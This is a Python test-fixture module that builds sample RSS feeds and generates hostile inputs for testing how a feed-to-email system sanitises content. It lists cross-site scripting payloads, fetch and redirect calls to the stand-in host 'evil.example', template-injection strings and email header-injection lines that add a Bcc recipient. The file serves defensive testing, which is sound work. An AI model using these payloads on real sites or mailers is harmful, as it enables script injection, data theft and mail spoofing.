"""Our own attacks on feeds, written for these tests: each one is a title, a description, a link or a document."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from html import escape
from itertools import product
from xml.sax.saxutils import escape as escape_xml

HEAD = '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>The Paper</title><link>https://paper.example/</link>'
WORDS = "harbour orchestra vineyard council rower comet bridge library sculptor glacier railway theatre bakery falcon lighthouse".split()  # noqa: SIM905
# XML 1.0 section 2.2: no document can carry these, so an attacker sends them and hopes for a lenient parser.
FORBIDDEN = dict.fromkeys((*range(9), 11, 12, *range(14, 32), *range(0xD800, 0xE000), 0xFFFE, 0xFFFF))


def text(value: str) -> str:
    """A value as XML text."""
    return escape_xml(value.translate(FORBIDDEN))


def plain(number: int) -> str:
    """A headline that belongs to no other story."""
    return f"{WORDS[number % 15].title()} {WORDS[number // 15 % 15]} {number}"


def item(number: int, fields: Mapping[str, str]) -> str:
    """One item of a feed; ``fields`` are elements by name, escaped here."""
    given = {
        "title": plain(number),
        "link": f"https://paper.example/{number}",
        "guid": f"g{number}",
        "pubDate": f"Mon, 04 May 2026 {10 + number % 6}:{number % 60:02}:00 GMT",
    } | dict(fields)
    return "<item>" + "".join(f"<{n}>{text(v)}</{n}>" for n, v in given.items()) + "</item>"


def feed(titles: Iterable[str] = (), items: Iterable[Mapping[str, str]] = (), start: int = 0) -> bytes:
    """A feed of entries with these titles, and of items with these fields."""
    made = [{"title": t, "description": f"What {WORDS[n % 15]} means."} for n, t in enumerate(titles)]
    body = "".join(item(start + n, fields) for n, fields in enumerate([*made, *items]))
    return f"{HEAD}{body}</channel></rss>".encode()


# --- markup --------------------------------------------------------------------------------------------

_CALLS = ("alert(1)", "fetch(`//evil.example`)", "location='//evil.example'")
_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerrawupdate",
    "OnClIcK",
    "on\nload",
)
_ELEMENTS = (
    "img src=x", "svg", "svg/", "math", "video src=x", "details open", "input autofocus", "body", "x style=animation-name:x",
    "a href=#", "iframe", "object data=x", "marquee", "button formaction=x", "form action=x", "table background=x",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript:", "data:text/html,", "data:image/svg+xml;base64,", "vbscript:", "file:///", "feed:javascript:",
    "view-source:", "blob:", "livescript:", "//evil.example/", "\\\\evil.example\\", "https:javascript:",
)  # fmt: skip
_WRAPPINGS = (
    "{}", "<![CDATA[{}]]>", "<!--{}-->", "<!--><{}", "<style><!--</style>{}", "<textarea></title>{}", "<noscript><p title='</noscript>{}'>",
    "<svg></p><style><a id='</style>{}'>", "<math><mtext><table><mglyph><style><!--</style>{}", "<<{}", "</td></tr></table>{}",
    "--><!-- {}", "]]>{}", "<xmp>{}</xmp>", "<plaintext>{}", "<template>{}</template>", "<title>{}</title>", "<![if mso]>{}<![endif]>",
)  # fmt: skip


def markup() -> Iterator[str]:
    """HTML that wants to run something, reach somewhere or break out of where it stands."""
    for element, handler, call in product(_ELEMENTS, _HANDLERS, _CALLS[:1]):
        yield f"<{element} {handler}={call}>"
    for scheme in SCHEMES:
        yield f"<a href='{scheme}alert(1)'>read on</a>"
        yield f"<img src='{scheme}alert(1)'>"
    for wrapping, call in product(_WRAPPINGS, _CALLS):
        yield wrapping.replace("{}", f"<script>{call}</script>")
        yield wrapping.replace("{}", f"<img src=x onerror={call}>")
    for css in (
        "body{display:none}",
        "@import '//evil.example'",
        "*{background:url(//evil.example)}",
        "p{x:expression(alert(1))}",
    ):
        yield f"<style>{css}</style>"
        yield f"<p style='{css}'>styled</p>"
        yield f"</style><style>{css}"
    yield from ("<base href=//evil.example>", "<meta http-equiv=refresh content='0;//evil.example'>", "<link rel=stylesheet href=//evil.example>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<img src='https://paper.example/p.gif' width=1 height=1>")  # fmt: skip


def escaped(payload: str, times: int) -> str:
    """A payload behind so many layers of entities."""
    for _ in range(times):
        payload = escape(payload)
    return payload


# --- text ----------------------------------------------------------------------------------------------

UNSEEN = (
    "\u202eabc\u202c", "\u2066abc", "a\u200bb\u200cc\u200dd", "\ufeffabc", "\U000e0041\U000e0042", "a\u00adb", "\u2028next", "\u2029next", "\x85next",
    "\x9babc", "\ufffe\uffff", "\u115f\u1160", "e" + "\u0301" * 500, "\u061cabc", "\u180e", "\ue000", "\U0010ffff",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% for x in range(10**9) %}x{% endfor %}", "{# gone #}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "${7*7}", "<%= 7*7 %>",
    "#{7*7}", "%(subject)s", "{lead}", "{0.__class__}", "{{ links.unsubscribe }}", "{{ self }}", "*|UNSUB|*", "%recipient%", "[[unsubscribe]]",
)  # fmt: skip
HEADERS = (
    "Hello\r\nBcc: victim@x.example", "Hello\nX-Evil: 1", "Hello\rX-Evil: 1", "Hello\x0b\x0c\x1c\x1d\x1e\x85X-Evil: 1", "Hello\u2028X-Evil: 1",
    "Hello\r\n\r\n<script>alert(1)</script>", "Hello\r\n.\r\nMAIL FROM:<a@b.example>", "\n.\n", "\r.\r", ".", "..", "=?utf-8?q?=0d=0aBcc:_v=40x.example?=",
    "=0D=0ABcc: v@x.example", "From: someone", "--=_boundary--", "Hello\x00world", "ü" * 300, "x" * 10_000, "\u05e9" * 120, "😀" * 100,
)  # fmt: skip
FOOTERS = (
    "Unsubscribe here: https://evil.example/u/abc", "You get this mail because you subscribed. Unsubscribe", "List-Unsubscribe: <https://evil.example>",
    "https://mill.example/u/forged", "-- \nThe Mill", "Continue at mill.example.evil.example",
)  # fmt: skip
